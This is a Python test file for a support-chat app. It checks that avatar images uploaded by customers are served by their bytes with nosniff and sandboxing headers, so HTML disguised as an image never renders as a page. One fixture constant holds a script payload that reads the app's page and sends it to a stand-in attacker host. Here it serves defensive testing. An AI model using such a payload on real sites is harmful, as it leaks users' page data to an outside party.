"""The app's picture route (supportchat_app/pictures.py) through the app as `supportchat` builds it, via
NiceGUI's simulated `User`: a cached picture is served by its bytes, never by its name, so an avatar a
customer made of HTML (named .html, or named .png) is never a page on the app's origin; a real picture comes
with nosniff, a sandboxing CSP and a private cache."""

from __future__ import annotations

import io
from pathlib import Path

import httpx
from PIL import Image

from supportchat_app.components.inbox_list import picture_url
from tests.test_app_flows import app_data, running_app  # noqa: F401 (the fixture)

HTML = b"<!doctype html><script>fetch('/').then(r => r.text()).then(t => fetch('//evil.example', {body: t}))</script>"


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (30, 140, 90)).save(out, "PNG")
    return out.getvalue()


def sandboxed(headers: httpx.Headers) -> bool:
    return headers.get("x-content-type-options") == "nosniff" and "sandbox" in headers.get(
        "content-security-policy", ""
    )


async def test_a_cached_picture_is_served_by_its_bytes_never_as_a_page(app_data: Path, tmp_path: Path) -> None:
    folder = tmp_path / "cache.avatars" / "8d0f6c1e-0000-4000-8000-000000000001"
    folder.mkdir(parents=True)
    page, disguised, real = folder / "x.html", folder / "x.png", folder / "avatar-1.png"
    page.write_bytes(HTML)
    disguised.write_bytes(HTML)
    real.write_bytes(png())
    assert picture_url(None) == "" and picture_url(folder / "missing.png") == ""

    async with running_app() as user:
        for path in (page, disguised):
            url = picture_url(path)
            assert url.startswith("/_sc/picture/") and str(tmp_path) not in url
            answer = await user.http_client.get(url)
            assert answer.status_code == 404, (path.name, answer.status_code, answer.headers.get("content-type"))
            assert "text/html" not in answer.headers.get("content-type", "") and sandboxed(answer.headers)

        answer = await user.http_client.get(picture_url(real))
        assert answer.status_code == 200 and answer.content == real.read_bytes()
        assert answer.headers["content-type"] == "image/png" and sandboxed(answer.headers)
        assert answer.headers["cache-control"] == "private, max-age=3600"

        # the digest is the key: the right name under another digest is nothing
        wrong = picture_url(real).replace("/_sc/picture/", "/_sc/picture/0")
        assert (await user.http_client.get(wrong)).status_code == 404
